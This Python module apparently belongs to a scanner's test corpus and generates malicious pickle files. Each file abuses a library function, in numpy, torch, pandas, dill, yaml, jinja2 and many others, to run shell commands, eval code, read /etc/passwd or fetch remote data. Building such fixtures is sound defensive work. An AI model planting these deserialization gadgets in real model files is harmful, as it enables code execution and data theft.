"""Pickles that call what the libraries of the trade offer: each is at home in a real model's company.

What needs a library to be shown is shown where that library is; making the files needs none.
"""

# ruff: noqa: E501 - tables, one entry a line

import base64

from tests.corpora.models.attacks import opcodes as op
from tests.corpora.models.attacks.opcodes import Code, call, method, named, stacked, stream
from tests.corpora.models.attacks.payload import ADDRESS, CODE, IMPORTED, MARKER, SHELL, code_object
from tests.corpora.models.attacks.pickle_callables import imported, keyword
from tests.corpora.models.attacks.registry import Attack, add, always

_RUN = (named("os", "system"), SHELL)
_INNER = stream(call(*_RUN))
_BUFFER = call("io:BytesIO", _INNER)


def _beside(content: bytes, then: Code, name: str = "weights.bin") -> Code:
    """A file written first, so that a loader that wants a path has one."""
    first = method("pathlib:Path.write_bytes", call("pathlib:Path", name), content)
    return Code(first + op.POP + then)


# Library: what is called, with what.
CALLS: dict[str, dict[str, Code]] = {
    "numpy": {
        "runstring": call("numpy.testing._private.utils:runstring", CODE, {}),
        "load": _beside(_INNER, call("numpy:load", "weights.bin", None, True)),
        "lib-load": _beside(_INNER, call("numpy.lib._npyio_impl:load", "weights.bin", None, True)),
        "f2py-myeval": call("numpy.f2py.crackfortran:myeval", IMPORTED),
        "f2py-eval-length": call("numpy.f2py.crackfortran:_eval_length", IMPORTED, {}),
        "f2py-param-eval": call("numpy.f2py.crackfortran:param_eval", IMPORTED, {}, {}),
        "f2py-getlincoef": call("numpy.f2py.crackfortran:getlincoef", IMPORTED, {"x": 1}),
        "vectorize": method("numpy:vectorize.__call__", call("numpy:vectorize", _RUN[0]), SHELL),
        "frompyfunc": call(call("numpy:frompyfunc", _RUN[0], 1, 1), SHELL),
        "fromiter": call("numpy:fromiter", call("builtins:map", _RUN[0], [SHELL]), "i4"),
        "savetxt": call("numpy:savetxt", MARKER, [1]),
        "memmap": call("numpy:memmap", MARKER, "u1", "w+", 0, (1,)),
        "tofile": method("numpy:ndarray.tofile", call("numpy:array", [1]), MARKER),
        "fromfile": call("numpy:fromfile", "/etc/passwd", "u1"),
        "genfromtxt": call("numpy:genfromtxt", ADDRESS),
        "loadtxt": call("numpy:loadtxt", "/etc/passwd"),
        "datasource": method("numpy.lib.npyio:DataSource.open", call("numpy.lib.npyio:DataSource"), ADDRESS),
    },
    "scipy": {
        "loadmat": call("scipy.io:loadmat", "/etc/passwd"),
        "map-wrapper": call("builtins:list", call(call("scipy._lib._util:MapWrapper"), _RUN[0], [SHELL])),
        "savemat": call("scipy.io:savemat", MARKER, {}, False),
    },
    "pandas": {
        "read-pickle": call("pandas:read_pickle", _BUFFER),
        "io-read-pickle": call("pandas.io.pickle:read_pickle", _BUFFER),
        "eval": keyword("pandas:eval", expr=f"os.system({SHELL!r})", engine="python",
                        local_dict={"os": imported("os")}, global_dict={}),
        "frame-eval": keyword("pandas:DataFrame.eval", self=call("pandas:DataFrame", {"a": [1]}),
                              expr=f"@os.system({SHELL!r})", engine="python", local_dict={"os": imported("os")}),
        "series-apply": method("pandas:Series.apply", call("pandas:Series", [SHELL]), _RUN[0]),
        "series-map": method("pandas:Series.map", call("pandas:Series", [SHELL]), _RUN[0]),
        "to-csv": method("pandas:DataFrame.to_csv", call("pandas:DataFrame"), MARKER),
        "read-csv": call("pandas:read_csv", ADDRESS),
        "read-csv-file": call("pandas:read_csv", "/etc/passwd"),
        "read-json": call("pandas:read_json", ADDRESS),
        "get-handle": call("pandas.io.common:get_handle", MARKER, "w"),
    },
    "joblib": {
        "load": call("joblib:load", _BUFFER),
        "numpy-pickle-load": call("joblib.numpy_pickle:load", _BUFFER),
        "unpickler": method("joblib.numpy_pickle:NumpyUnpickler.load",
                            call("joblib.numpy_pickle:NumpyUnpickler", "x", _BUFFER, False)),
        "parallel": call(call("joblib:Parallel", 1), [(_RUN[0], (SHELL,), {})]),
        "dump": call("joblib:dump", [1], MARKER),
    },
    "sklearn": {
        "load-svmlight": call("sklearn.datasets:load_svmlight_file", "/etc/passwd"),
        "load-files": call("sklearn.datasets._base:_fetch_remote",
                           call("sklearn.datasets._base:RemoteFileMetadata", "x", ADDRESS, "0")),
        "fetch-openml": call("sklearn.datasets:fetch_openml", "iris") ,
        "transformer": method("sklearn.preprocessing:FunctionTransformer.transform",
                              call("sklearn.preprocessing:FunctionTransformer", _RUN[0]), SHELL),
        "externals-joblib": call("sklearn.externals.joblib:load", _BUFFER),
    },
    "torch": {
        "load-from-bytes": call("torch.storage:_load_from_bytes", _INNER),
        "load": keyword("torch:load", f=_BUFFER, weights_only=False),
        "serialization-load": keyword("torch.serialization:load", f=_BUFFER, weights_only=False),
        "collect-env": call("torch.utils.collect_env:run", SHELL),
        "hub-load": call("torch.hub:load", "alcaide/weights", "model"),
        "hub-load-local": _beside(f"{CODE}\ndef model(): pass\n".encode(), keyword(
            "torch.hub:load", repo_or_dir=".", model="model", source="local"), "hubconf.py"),
        "hub-download": call("torch.hub:download_url_to_file", ADDRESS, MARKER),
        "hub-state-dict": call("torch.hub:load_state_dict_from_url", ADDRESS),
        "exec-with-source": call("torch.fx.graph_module:_exec_with_source", CODE, {}),
        "reduce-graph-module": call("torch.fx.graph_module:reduce_graph_module", {"_code": CODE}, ""),
        "forward-from-src": call("torch.fx.graph_module:_forward_from_src", CODE, {}),
        "exec-wrapper": call("torch.jit.unsupported_tensor_ops:execWrapper", CODE, {}, {}),
        "basichandlers": call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", _INNER),
        "file-baton": method("torch.utils.file_baton:FileBaton.try_acquire",
                             call("torch.utils.file_baton:FileBaton", MARKER)),
        "save": call("torch:save", [1], MARKER),
        "jit-load": call("torch.jit:load", "/etc/passwd"),
        "load-inline": call("torch.utils.cpp_extension:load_inline", "weights", "int x;"),
        "load-library": call("torch.ops:load_library", "./weights.so"),
        "config-module": method("torch.utils._config_module:ConfigModule.load_config",
                                call("importlib:import_module", "torch._dynamo.config"), _INNER),
        "tree-map": call("torch.utils._pytree:tree_map", _RUN[0], [SHELL]),
        "checkpoint": keyword("torch.utils.checkpoint:checkpoint", function=_RUN[0], use_reentrant=False, command=SHELL),
        "from-file": call("torch:from_file", MARKER, True, 8),
    },
    "dill": {
        "loads": call("dill:loads", _INNER),
        "create-function": call(call("dill._dill:_create_function", call("marshal:loads", code_object()),
                                     {"__builtins__": stacked("builtins", "__dict__")})),
        "import-module": call(
            call("operator:methodcaller", "system", SHELL), call("dill._dill:_import_module", "os")
        ),
        "eval-repr": call("dill._dill:_eval_repr", IMPORTED),
        "create-filehandle": call("dill._dill:_create_filehandle", MARKER, "w", 0, False, named("builtins", "open"), False, 0, ""),
        "get-attr": call(call("dill._dill:_get_attr", imported("os"), "system"), SHELL),
    },
    "cloudpickle": {
        "loads": call("cloudpickle:loads", _INNER),
        "subimport": call(call("operator:methodcaller", "system", SHELL), call("cloudpickle.cloudpickle:subimport", "os")),
        "make-function": call(call("cloudpickle.cloudpickle:_make_function", call("marshal:loads", code_object()),
                                   {"__builtins__": stacked("builtins", "__dict__")}, "f", (), None)),
        "skeleton-class": Code(call("cloudpickle.cloudpickle:_make_skeleton_class", named("builtins", "type"), "W", (),
                                    {"__setstate__": _RUN[0]}, "0", None) + op.put(5) + op.POP
                               + call(op.get(5)) + op.text(SHELL) + op.BUILD),
        "builtin-type": call(call(
            call("cloudpickle.cloudpickle:_builtin_type", "FunctionType"), call("marshal:loads", code_object()),
            {"__builtins__": stacked("builtins", "__dict__")})),
    },
    "yaml": {
        "unsafe-load": call("yaml:unsafe_load", f"!!python/object/apply:os.system ['{SHELL}']"),
        "load": call("yaml:load", f"!!python/object/apply:os.system ['{SHELL}']", named("yaml", "UnsafeLoader")),
    },
    "jinja2": {
        "render": method("jinja2:Template.render", call(
            "jinja2:Template", "{{ cycler.__init__.__globals__.os.system(c) }}"), {"c": SHELL}),
    },
    "sympy": {
        "sympify": call("sympy:sympify", IMPORTED),
        "parse-expr": call("sympy.parsing.sympy_parser:parse_expr", IMPORTED),
        "lambdify": call(call("sympy:lambdify", [], IMPORTED)),
    },
    "keras": {
        "get-file": call("keras.utils:get_file", "w.bin", ADDRESS),
        "func-load": call(call("keras.src.utils.python_utils:func_load", (
            base64.b64encode(code_object()).decode(), None, None), None, {"__builtins__": stacked("builtins", "__dict__")})),
    },
    "tensorflow": {
        "write-file": call("tensorflow.io:write_file", MARKER, ""),
        "read-file": call("tensorflow.io:read_file", "/etc/passwd"),
        "gfile": call("tensorflow.io.gfile:mkdir", MARKER),
        "load-op-library": call("tensorflow:load_op_library", "./weights.so"),
        "py-function": call("tensorflow:numpy_function", _RUN[0], [SHELL], named("tensorflow", "int64")),
        "saved-model-load": call("tensorflow.saved_model:load", "./weights"),
    },
    "jax": {
        "tree-map": call("jax.tree_util:tree_map", _RUN[0], [SHELL]),
        "partial": call(call("jax.tree_util:Partial", _RUN[0], SHELL)),
    },
    "transformers": {
        "dynamic-class": call("transformers.dynamic_module_utils:get_class_in_module", "W", "w.py"),
        "dynamic-module": call("transformers.dynamic_module_utils:get_class_from_dynamic_module", "w.W", "alcaide/w"),
        "cached-file": call("transformers.utils.hub:cached_file", "alcaide/weights", "config.json"),
    },
    "huggingface_hub": {
        "hf-hub-download": call("huggingface_hub:hf_hub_download", "alcaide/weights", "config.json"),
        "snapshot-download": call("huggingface_hub:snapshot_download", "alcaide/weights"),
    },
    "requests": {"get": call("requests:get", ADDRESS), "post": call("requests.api:post", ADDRESS, {"a": 1})},
    "httpx": {"get": call("httpx:get", ADDRESS)},
    "urllib3": {"request": call("urllib3:request", "GET", ADDRESS)},
    "boto3": {"client": call("boto3:client", "s3")},
    "aiohttp": {"session": call("aiohttp:ClientSession")},
    "spacy": {
        "run-command": call("spacy.util:run_command", SHELL),
        "registry": call("spacy:load", "alcaide_weights"),
    },
    "srsly": {"pickle-loads": call("srsly:pickle_loads", _INNER)},
    "gensim": {
        "unpickle": _beside(_INNER, call("gensim.utils:unpickle", "weights.bin")),
        "check-output": keyword("gensim.utils:check_output", args=["touch", MARKER]),
    },
    "nltk": {
        "data-load": _beside(_INNER, call("nltk.data:load", "file:weights.pickle", "pickle"), "weights.pickle"),
        "download": call("nltk:download", "punkt"),
        "pickle-load": call("nltk.picklesec:pickle_load", _BUFFER),
    },
    "statsmodels": {"load-pickle": _beside(_INNER, call("statsmodels.iolib.smpickle:load_pickle", "weights.bin"))},
    "patsy": {"dmatrix": call("patsy:dmatrix", f"I({IMPORTED})", {"x": [1]})},
    "mlflow": {"load-model": call("mlflow.pyfunc:load_model", ADDRESS),
               "exec-cmd": call("mlflow.utils.process:_exec_cmd", ["touch", MARKER])},
    "psutil": {"Popen": call("psutil:Popen", ["touch", MARKER])},
    "git": {"execute": method("git.cmd:Git.execute", call("git.cmd:Git"), ["touch", MARKER])},
    "fsspec": {"open": method("fsspec.core:OpenFile.open", call("fsspec:open", MARKER, "w"))},
    "smart_open": {"open": call("smart_open:open", MARKER, "w")},
    "h5py": {"File": call("h5py:File", MARKER, "w")},
    "PIL": {"image-math": keyword("PIL.ImageMath:unsafe_eval", expression="f(c)", f=_RUN[0], c=SHELL),
            "image-open": call("PIL.Image:open", "/etc/passwd")},
    "fastcore": {"run": call("fastcore.xtras:run", SHELL)},
    "skops": {"load": call("skops.io:load", "/etc/passwd")},
    "onnx": {"load": call("onnx:load", "/etc/passwd")},
    "cffi": {"dlopen": method("cffi:FFI.dlopen", call("cffi:FFI"), "./weights.so")},
    "setuptools": {"distutils-spawn": call("setuptools._distutils.spawn:spawn", ["touch", MARKER])},
    "IPython": {"system": call("IPython.utils.process:system", SHELL)},
    "jsonpickle": {"decode": call("jsonpickle:decode", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["' + SHELL + '"]}]}')},
    "numexpr": {"evaluate": call("numexpr:evaluate", IMPORTED)},
    "mako": {"template": method("mako.template:Template.render", call("mako.template:Template", f"<% {CODE} %>"))},
    "asteval": {"interpreter": call(call("asteval:Interpreter"), CODE)},
    "pytest": {"main": call("pytest:main", ["--version"])},
    "dask": {"compute": call("dask:compute", {"x": (_RUN[0], SHELL)})},
    "pyarrow": {"local": method("pyarrow.fs:LocalFileSystem.create_dir", call("pyarrow.fs:LocalFileSystem"), MARKER)},
}  # fmt: skip

# Why nothing shows that the call is made: the library asks a hub, or the file it wants is not there.
UNSEEN = {
    "sklearn-fetch-openml": "its client gives up before it connects",
    "sklearn-externals-joblib": "gone from the scikit-learn of today",
    "torch-jit-load": "reads by its own C++ code, which no hook sees",
    "torch-load-inline": "needs a compiler",
    "torch-load-library": "the library it loads is not there",
    "tensorflow-read-file": "reads by its own C++ code, which no hook sees",
    "tensorflow-load-op-library": "the library it loads is not there",
    "tensorflow-saved-model-load": "the model it loads is not there",
    "transformers-dynamic-class": "the module it imports is not there",
    "boto3-client": "connects at its first request only",
    "aiohttp-session": "connects at its first request only",
    "spacy-registry": "the package it loads is not there",
    "nltk-data-load": "its reader of today refuses what nltk did not write",
    "mlflow-load-model": "its client gives up before it connects",
    "cffi-dlopen": "the library it loads is not there",
    "pytest-main": "runs what tests lie about",
}


def _register() -> None:
    for library, calls in CALLS.items():
        for name, code in calls.items():
            id = f"{library}-{name}"
            body = stream(code, version=4 + len(id) % 2)
            why = UNSEEN.get(id, "")
            says = f"calls {library}: {name}" + (f"; {why}" if why else "")
            proof = "" if why else "pickle"
            attack = Attack(
                f"call-{id}",
                "load",
                "pickle-libraries",
                says,
                ".pkl",
                always(body),
                proof,
                (library,),
                why,
            )
            add(attack)


_register()
